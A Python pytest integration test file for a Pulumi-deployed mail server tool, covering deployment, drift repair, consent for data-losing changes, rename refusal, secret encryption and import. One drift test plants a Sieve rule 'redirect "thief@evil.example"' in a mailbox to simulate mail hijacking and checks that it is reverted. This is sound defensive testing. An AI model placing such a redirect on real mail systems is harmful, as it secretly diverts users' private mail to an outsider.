"""A real ``pulumi`` with an own mail server: up, drift, repair, consent, rename, import, secret, destroy."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from dataclasses import dataclass

import pytest

from mailwright.deploy.tokens import DNS_RECORDS
from tests.conftest import ROOT
from tests.mail_host import test_by_hand as by_hand
from tests.mail_host.server import MASTER, MASTER_PASSWORD
from tests.mail_host.workspace import Workspace
from tests.mail_host.worlds import DAY, PEOPLE, Company
from tests.mailboxes.specs import DOMAIN

pytestmark = [pytest.mark.pulumi, pytest.mark.slow]
TYPE = "mailwright:mail:Mailboxes"
LOSS = "role-address-emptied"


@dataclass
class Checkout:
    """A clone of this project with the company's spec in it."""

    company: Company | Workspace
    environment: dict[str, str]

    def pulumi(self, *arguments: str, **more: str) -> subprocess.CompletedProcess[str]:
        return self._run(["pulumi", *arguments, "--non-interactive"], more)

    def mailwright(self, *arguments: str, **more: str) -> subprocess.CompletedProcess[str]:
        return self._run([sys.executable, "-m", "mailwright", *arguments], more)

    def _run(self, command: list[str], more: dict[str, str]) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            command,
            check=False,
            cwd=self.company.folder,
            env={**self.environment, **more},
            text=True,
            capture_output=True,
        )

    def up(self, **more: str) -> None:
        ended = self.pulumi("up", "--yes", "--skip-preview", **more)
        assert ended.returncode == 0, ended.stdout + ended.stderr

    def unchanged(self, type: str = TYPE) -> int:
        """The exit code of a preview of the mailboxes that expects no changes; DNS waits for a person."""
        target = ("--target", f"**{type}::{DOMAIN}")
        return self.pulumi("preview", "--refresh", "--expect-no-changes", *target).returncode

    def forget_dns(self) -> None:
        """Nobody can be asked what its zone serves, so that nothing may be deleted there."""
        exported = json.loads(self.pulumi("stack", "export").stdout)["deployment"]["resources"]
        name = f"{DNS_RECORDS}::{DOMAIN}@manual"
        (urn,) = [resource["urn"] for resource in exported if resource["urn"].endswith(name)]
        assert self.pulumi("state", "delete", urn, "--yes").returncode == 0

    def resource(self) -> dict[str, object]:
        exported = json.loads(self.pulumi("stack", "export").stdout)["deployment"]["resources"]
        (found,) = [each for each in exported if each["type"] == TYPE]
        return dict(found)


@pytest.fixture
def checkout(served: Company) -> Checkout:
    return cloned(served)


def cloned(served: Company | Workspace) -> Checkout:
    """A clone beside the company's folder, and an empty stack in it."""
    tmp_path = served.folder
    if not shutil.which("pulumi"):
        pytest.skip("the pulumi command is not on the PATH")
    served.folder = tmp_path / "clone"
    tracked = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, text=True, check=True)
    for name in filter(None, tracked.stdout.split("\0")):
        if not name.startswith(("tests/", "docs/")) and (ROOT / name).is_file():
            (served.folder / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(ROOT / name, served.folder / name)
    (served.folder / ".venv").symlink_to(sys.prefix)
    (tmp_path / "state").mkdir()
    environment = {
        **os.environ,
        "PULUMI_HOME": str(tmp_path / "home"),
        "PULUMI_BACKEND_URL": (tmp_path / "state").as_uri(),
        "PULUMI_CONFIG_PASSPHRASE": "a passphrase of the tests",
        "PULUMI_SKIP_UPDATE_CHECK": "true",
        "MAILWRIGHT_SPECS": "stacks/" + served.spec.name,
        "MAILWRIGHT_AS_OF": DAY,
        "MAILWRIGHT_LANG": "en",
    }
    served.write()
    made = Checkout(served, environment)
    assert made.pulumi("stack", "init", "t").returncode == 0
    return made


def test_up_drift_repair_consent_destroy(checkout: Checkout) -> None:
    company = checkout.company
    assert company.live is not None
    checkout.up()
    deployed = company.files(), company.scripts("wang")
    assert company.routing().reaches(f"info@{DOMAIN}")
    assert checkout.unchanged() == 0

    aliases = company.tables / "aliases"
    aliases.write_text(aliases.read_text().replace("wang+info", "chen"))
    with company.live.session("wang") as session:
        session.put("mailwright", 'redirect "thief@evil.example";\r\n')
    assert checkout.unchanged() != 0
    shown = checkout.pulumi("preview", "--diff").stdout
    assert f"aliases info@{DOMAIN}" in shown and "thief@evil.example" in shown
    checkout.up()
    assert (company.files(), company.scripts("wang")) == deployed
    assert checkout.unchanged() == 0

    company.write(PEOPLE)
    refused = checkout.pulumi("up", "--yes", "--skip-preview")
    assert refused.returncode != 0 and f"[{LOSS}]" in refused.stdout
    assert "Traceback" not in refused.stdout + refused.stderr
    assert (company.files(), company.scripts("wang")) == deployed
    company.write()

    assert checkout.pulumi("destroy", "--yes").returncode != 0
    assert (company.files(), company.scripts("wang")) == deployed
    checkout.forget_dns()
    assert checkout.pulumi("destroy", "--yes", MAILWRIGHT_ALLOW=LOSS).returncode == 0
    assert company.files() == {} and company.scripts("wang") == ({}, None)


def test_a_rename_is_refused_and_the_password_is_encrypted(checkout: Checkout) -> None:
    company = checkout.company
    del checkout.environment["MAILWRIGHT_SIEVE_PASSWORD"]
    assert "MAILWRIGHT_SIEVE_PASSWORD" in checkout.pulumi("up", "--yes").stdout
    secret = ("config", "set", "--secret", "mailwright:sievePassword", MASTER_PASSWORD)
    assert checkout.pulumi(*secret).returncode == 0
    checkout.up()
    deployed = company.files()
    assert MASTER_PASSWORD not in checkout.pulumi("stack", "export").stdout
    program = company.folder / "__main__.py"
    program.write_text(
        "import mailwright.deploy.mail.program as program\n"
        "made = program.Mailboxes\n"
        "program.Mailboxes = lambda name, *rest: made('another-name', *rest)\n" + program.read_text()
    )
    refused = checkout.pulumi("up", "--yes", "--skip-preview")
    assert refused.returncode != 0 and "[resource-renamed]" in refused.stdout
    assert company.files() == deployed


def test_what_stands_there_is_imported_by_its_id_alone(checkout: Checkout) -> None:
    company = checkout.company
    checkout.up()
    port = company.live.sieve if company.live else 0
    id = f"{DOMAIN}?folder={company.tables}&server=127.0.0.1&port={port}&user={MASTER}"
    made = checkout.resource()
    assert made["id"] == id
    # Its records wait for it, and are forgotten with it.
    gone = checkout.pulumi("state", "delete", str(made["urn"]), "--yes", "--target-dependents")
    assert gone.returncode == 0, gone.stderr
    listed = {"resources": [{"type": TYPE, "name": DOMAIN, "id": id}]}
    (company.folder / "import.json").write_text(json.dumps(listed))
    ended = checkout.pulumi(
        "import", "--file", "import.json", "--generate-code=false", "--protect=false", "--yes"
    )
    assert ended.returncode == 0, ended.stdout + ended.stderr
    again = checkout.resource()
    for name in ("maps", "scripts", "folder", "server"):
        assert again["inputs"][name] == made["inputs"][name]  # type: ignore[index]


def test_a_stack_moves_from_the_embedded_engine_without_a_change(checkout: Checkout) -> None:
    company = checkout.company
    assert checkout.pulumi("stack", "rm", "t", "--yes").returncode == 0
    spec, ways = f"stacks/{company.spec.name}", ("--stack", "t")
    ended = checkout.mailwright("up", spec, *ways, "--engine", "embedded")
    assert ended.returncode == 2, "its DNS waits for a person: " + ended.stdout + ended.stderr
    deployed = company.files(), company.scripts("wang")
    ended = checkout.mailwright("move", spec, *ways)
    assert ended.returncode == 0, ended.stdout + ended.stderr
    assert checkout.mailwright("preview", spec, *ways, "--engine", "pulumi").returncode == 2
    assert (company.files(), company.scripts("wang")) == deployed
    refused = checkout.mailwright("destroy", spec, *ways, "--engine", "pulumi")
    assert refused.returncode == 3 and "Traceback" not in refused.stderr


def test_a_domain_that_leaves_is_refused_before_another_one_comes(checkout: Checkout) -> None:
    company = checkout.company
    company.write(sieve=False)
    checkout.up()
    deployed = company.files()
    company.spec.unlink()
    (checkout.company.folder / "stacks" / "example.yaml").unlink()  # it is of this domain too
    company.domain = "acme-trade.cn"
    renamed = {"MAILWRIGHT_SPECS": f"stacks/{company.write(sieve=False).name}"}
    for words in (("preview",), ("up", "--yes", "--skip-preview")):
        refused = checkout.pulumi(*words, **renamed)
        assert refused.returncode != 0 and f"[{LOSS}]" in refused.stdout, refused.stdout
        kept = company.files()
        assert all(text in kept[name] for name, text in deployed.items()), "the new one comes, none goes"
    checkout.forget_dns()
    checkout.up(**renamed, MAILWRIGHT_ALLOW=LOSS)
    assert f"@{DOMAIN} " not in company.files()["aliases"].decode()


def test_what_a_host_worked_by_hand_would_lose_is_refused(checkout: Checkout) -> None:
    """The component's outputs are the memory, in Pulumi's state too."""
    company = checkout.company
    by_hand.write(company, by_hand.STAFF + by_hand.ROLES)
    checkout.up()
    by_hand.write(company, by_hand.STAFF)
    refused = checkout.pulumi("up", "--yes", "--skip-preview")
    assert refused.returncode != 0 and f"[{LOSS}] info@{DOMAIN}, sales@{DOMAIN}" in refused.stdout
    assert checkout.pulumi("up", "--yes", "--skip-preview").returncode != 0
    checkout.up(MAILWRIGHT_ALLOW=LOSS)
    checkout.up()
